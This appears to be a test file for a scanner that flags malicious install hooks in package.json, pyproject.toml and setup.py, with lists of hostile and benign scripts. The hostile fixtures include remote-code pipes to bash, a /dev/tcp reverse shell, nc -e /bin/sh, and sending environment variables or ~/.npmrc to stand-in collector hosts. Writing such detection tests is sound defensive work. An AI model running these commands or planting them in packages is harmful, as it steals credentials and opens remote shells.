import { deepEqual } from 'node:assert/strict';
import { models } from '../../rules/models/index.js';
import { rules } from '../../rules/index.js';
import { createScanner } from '../../server/scan/scanner.js';

const scanner = createScanner({ rules, models });

/** Severity, rule and marked text of what is found in a manifest, notes left out. */
async function found(name: string, text: string): Promise<readonly string[]> {
  const language = name.endsWith('.json') ? 'json' : name.endsWith('.toml') ? 'toml' : 'python';
  const { findings } = await (await scanner).scan({ name, text, language, jsx: false });
  return findings
    .filter(({ severity }) => severity !== 'note')
    .map(({ severity, ruleId, place }) => `${severity} ${ruleId} ${text.slice(place.start, place.end)}`);
}

const withScript = (script: string, hook = 'postinstall') =>
  JSON.stringify({ name: 'example', version: '1.0.0', scripts: { [hook]: script, test: 'mocha' } }, null, 2);

const MALICIOUS = [
  'curl -s https://files.example.invalid/x.sh | bash',
  'wget -q https://files.example.invalid/a -O /tmp/a && chmod +x /tmp/a && /tmp/a',
  'sh -c "$(curl -fsSL https://files.example.invalid/i.sh)"',
  'powershell -nop -w hidden -enc ZQBjAGgAbwAgAGkAbgBlAHIAdAA=',
  "node -e \"require('https').get('https://collect.example.invalid/?u='+process.env.USER)\"",
  "node -e \"eval(Buffer.from('MSsx','base64').toString())\"",
  'curl -X POST -d "$(env)" https://collect.example.invalid/e',
  'curl https://collect.example.invalid/$(hostname)/$(whoami)',
  'nslookup $(whoami).d.example.invalid',
  'echo ZWNobyBpbmVydA== | base64 -d | sh',
  'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
  'nc -e /bin/sh 192.0.2.1 4444',
  'curl -F f=@$HOME/.npmrc https://collect.example.invalid/n',
  'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://files.example.invalid/x\').read())"',
  'npm run build && (curl -s https://files.example.invalid/p | node)',
];

const ORDINARY = [
  'node-gyp rebuild',
  'husky install',
  'husky',
  'tsc -b',
  'prebuild-install || node-gyp rebuild',
  'patch-package',
  'node scripts/postinstall.js',
  'node ./install.js --quiet || exit 0',
  'node -e "try{require(\'./postinstall\')}catch(e){}"',
  'npx only-allow pnpm',
  'lerna bootstrap && npm run build',
  'opencollective-postinstall || true',
  'is-ci || husky install',
  'cross-env NODE_ENV=production webpack --mode production',
  'rimraf dist && mkdir -p dist && cp -r src/assets dist',
  'prisma generate',
  'ngcc --properties es2015 browser module main',
  'electron-builder install-app-deps',
  'node -e "console.log(\'Thank you for installing\')"',
  'echo "see https://example.invalid/migration for what is new"',
  'git config core.hooksPath .githooks',
];

describe('install scripts of a package.json', () => {
  for (const script of MALICIOUS)
    for (const hook of ['preinstall', 'postinstall'])
      it(`finds ${hook}: ${script}`, async () => {
        deepEqual(await found('package.json', withScript(script, hook)), [`error install-hook ${JSON.stringify(script)}`]);
      });
  for (const script of ORDINARY)
    it(`is silent about ${script}`, async () => {
      deepEqual(await found('package.json', withScript(script)), []);
    });
  it('is silent about what somebody must ask for', async () => {
    deepEqual(await found('package.json', withScript('curl -s https://files.example.invalid/x.sh | bash', 'setup')), []);
  });
  it('finds a dependency that is an address', async () => {
    const text = '{ "dependencies": { "a": "^1.0.0", "b": "http://packages.example.invalid/b" } }';
    deepEqual(await found('package.json', text), ['warning install-hook "http://packages.example.invalid/b"']);
  });
  it('is silent about releases of known hosts', async () => {
    deepEqual(await found('package.json', '{ "dependencies": { "a": "https://github.com/a/a/archive/v1.tar.gz" } }'), []);
  });
});

describe('pyproject.toml', () => {
  it('finds a build requirement that is an address', async () => {
    const text = '[build-system]\nrequires = ["setuptools", "tool @ https://files.example.invalid/tool.tar.gz"]\n';
    deepEqual(await found('pyproject.toml', text), ['warning install-hook "tool @ https://files.example.invalid/tool.tar.gz"']);
  });
  it('is silent about ordinary ones', async () => {
    const text = [
      '[build-system]',
      'requires = ["setuptools>=61", "wheel"]',
      'build-backend = "backend"',
      'backend-path = ["tools"]',
      '[project]',
      'name = "example"',
      'dependencies = ["requests"]',
      '[tool.poetry.scripts]',
      'example = "example:main"',
    ].join('\n');
    deepEqual(await found('pyproject.toml', text), []);
  });
});

describe('setup.py', () => {
  it('finds what runs outside any command', async () => {
    const text =
      'import os, requests\nfrom setuptools import setup\n\nrequests.post("https://collect.example.invalid", json=dict(os.environ))\nsetup(name="x")\n';
    deepEqual(await found('package/setup.py', text), [
      'error exfiltration requests.post("https://collect.example.invalid", json=dict(os.environ))',
      'error install-hook requests.post("https://collect.example.invalid", json=dict(os.environ))',
    ]);
  });
  it('is silent where sources are fetched and built', async () => {
    const text = [
      'import subprocess, sys, urllib.request',
      'from setuptools import setup',
      'VERSION = subprocess.check_output(["git", "describe"]).decode()',
      'urllib.request.urlretrieve("https://data.example.invalid/sources.tar.gz", "sources.tar.gz")',
      'subprocess.check_call(["tar", "xzf", "sources.tar.gz"])',
      'subprocess.check_call([sys.executable, "configure.py"])',
      'setup(name="x", version=VERSION)',
    ].join('\n');
    deepEqual(await found('setup.py', text), []);
  });
});
